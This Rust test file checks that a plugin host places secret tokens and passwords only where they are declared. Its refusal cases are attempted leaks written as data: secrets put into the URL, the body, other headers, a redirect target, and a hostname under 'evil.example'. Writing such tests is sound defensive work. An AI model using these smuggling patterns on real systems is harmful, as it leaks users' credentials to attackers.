//! Where a secret may go, and what of it comes back.

use std::sync::Arc;

use serde_json::json;

use super::stage::{Breach, Held, PASSWORD, Stage, TOKEN, on_stage};
use super::web::{SESSION, Web};

fn request(
    stage: &'static Stage,
    method: &str,
    url: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> Breach {
    stage.call(json!({
        "do": "request",
        "method": method,
        "url": url,
        "headers": headers,
        "body": body,
    }))
}

const BEARER: (&str, &str) = ("authorization", "Bearer ${secret:token}");

#[test]
fn a_secret_at_its_place() {
    on_stage(|stage| async move {
        let web = Web::start().await;
        let done = request(stage, "GET", &web.url("/"), &[BEARER], "")
            .with(&web)
            .publish()
            .await;
        assert_eq!(done.seen()["status"], 200);
        let expected = format!("Bearer {TOKEN}");
        assert_eq!(web.asked()[0].header("authorization"), Some(&*expected));
    });
}

#[test]
fn a_secret_where_it_has_no_place() {
    on_stage(|stage| async move {
        let (web, other) = (Web::start().await, Web::start().await);
        let to = |path: &str| web.url(path);
        type Case<'a> = (&'a str, String, Vec<(&'a str, &'a str)>, &'a str, &'a str);
        let cases: Vec<Case<'_>> = vec![
            // In another header.
            (
                "GET",
                to("/"),
                vec![("x-other", "${secret:token}")],
                "",
                "the header `x-other`",
            ),
            // In the URL.
            (
                "GET",
                to("/?q=${secret:token}"),
                vec![],
                "",
                "declares no place",
            ),
            (
                "GET",
                to("/${secret:token}"),
                vec![],
                "",
                "declares no place",
            ),
            (
                "GET",
                to("/?q=%24%7Bsecret%3Atoken%7D"),
                vec![],
                "",
                "into the address",
            ),
            // In the host.
            (
                "GET",
                "https://${secret:token}.evil.example/".to_owned(),
                vec![],
                "",
                "into the address",
            ),
            // In a body.
            (
                "POST",
                to("/"),
                vec![],
                r#"{"t":"${secret:token}"}"#,
                "the body",
            ),
            (
                "POST",
                to("/elsewhere"),
                vec![],
                r#"{"p":"${secret:password}"}"#,
                "the body",
            ),
            (
                "PUT",
                to("/login"),
                vec![],
                r#"{"p":"${secret:password}"}"#,
                "the body",
            ),
            // Toward another host.
            ("GET", other.url("/"), vec![BEARER], "", "declares no place"),
            // One for another, and one that nobody declared.
            (
                "GET",
                to("/"),
                vec![("authorization", "${secret:password}")],
                "",
                "declares no place",
            ),
            (
                "GET",
                to("/"),
                vec![("authorization", "${secret:root}")],
                "",
                "does not declare",
            ),
        ];
        for (method, url, headers, body, words) in cases {
            let host = other.address().to_string();
            let done = request(stage, method, &url, &headers, body)
                .with(&web)
                .setting("other", other.url(""))
                .grant(&host, true, true)
                .publish()
                .await;
            let (kind, text) = done.refusal();
            assert!(
                ["denied", "invalid"].contains(&kind.as_str()),
                "{url}: {kind}: {text}"
            );
            assert!(text.contains(words), "`{words}` is missing: {text}");
            assert!(text.contains("plugin `hostile`"), "{text}");
            assert!(!text.contains(TOKEN) && !text.contains(PASSWORD), "{text}");
            assert!(!done.0.requests_sent, "{url}");
        }
        assert!(web.asked().is_empty());
        assert!(other.asked().is_empty());
    });
}

#[test]
fn a_secret_does_not_follow_a_redirect_to_where_it_has_no_place() {
    on_stage(|stage| async move {
        let (web, other) = (Web::start().await, Web::start().await);
        let mut from = url::Url::parse(&web.url("/redirect?status=307")).unwrap();
        from.query_pairs_mut().append_pair("to", &other.url("/"));
        let host = other.address().to_string();
        let done = request(stage, "GET", from.as_str(), &[BEARER], "")
            .with(&web)
            .setting("other", other.url(""))
            .grant(&host, true, true)
            .publish()
            .await;
        assert_eq!(done.seen()["status"], 200);
        assert!(web.asked()[0].header("authorization").is_some());
        assert_eq!(other.asked().len(), 1);
        assert_eq!(other.asked()[0].header("authorization"), None);
    });
}

#[test]
fn a_secret_that_the_server_echoes() {
    on_stage(|stage| async move {
        let web = Web::start().await;
        let done = request(stage, "GET", &web.url("/echo"), &[BEARER], "")
            .with(&web)
            .publish()
            .await;
        let seen = done.seen();
        let whole = seen.to_string();
        assert!(!whole.contains(TOKEN), "{whole}");
        let body: serde_json::Value = serde_json::from_str(seen["body"].as_str().unwrap()).unwrap();
        assert_eq!(body["plain"], "Bearer ${secret:token}");
        assert!(
            body["base64"].as_str().unwrap().contains("[redacted]"),
            "{body}"
        );
        let header = seen["headers"]
            .as_array()
            .unwrap()
            .iter()
            .find(|header| header[0] == "x-echo")
            .unwrap();
        assert_eq!(header[1], "Bearer ${secret:token}");
    });
}

#[test]
fn a_session_is_kept_and_never_shown() {
    on_stage(|stage| async move {
        let web = Web::start().await;
        let secrets = Arc::new(Held::default());
        let body = r#"{"password":"${secret:password}"}"#;
        let done = request(stage, "POST", &web.url("/login"), &[], body)
            .with(&web)
            .secrets(&secrets)
            .publish()
            .await;
        let seen = done.seen().to_string();
        assert!(
            !seen.contains(SESSION) && !seen.contains(PASSWORD),
            "{seen}"
        );
        let expected = format!(r#"{{"password":"{PASSWORD}"}}"#);
        assert_eq!(web.asked()[0].body, expected);

        // It is put where it has its place, by name.
        let header = [("authorization", "Bearer ${secret:session}")];
        let done = request(stage, "GET", &web.url("/"), &header, "")
            .with(&web)
            .secrets(&secrets)
            .publish()
            .await;
        assert_eq!(done.seen()["status"], 200);
        let expected = format!("Bearer {SESSION}");
        assert_eq!(web.asked()[1].header("authorization"), Some(&*expected));

        // Another account has none.
        let done = request(stage, "GET", &web.url("/"), &header, "")
            .with(&web)
            .account("other")
            .publish()
            .await;
        assert_eq!(
            done.refusal(),
            ("missing-secret".to_owned(), "session".to_owned())
        );
    });
}
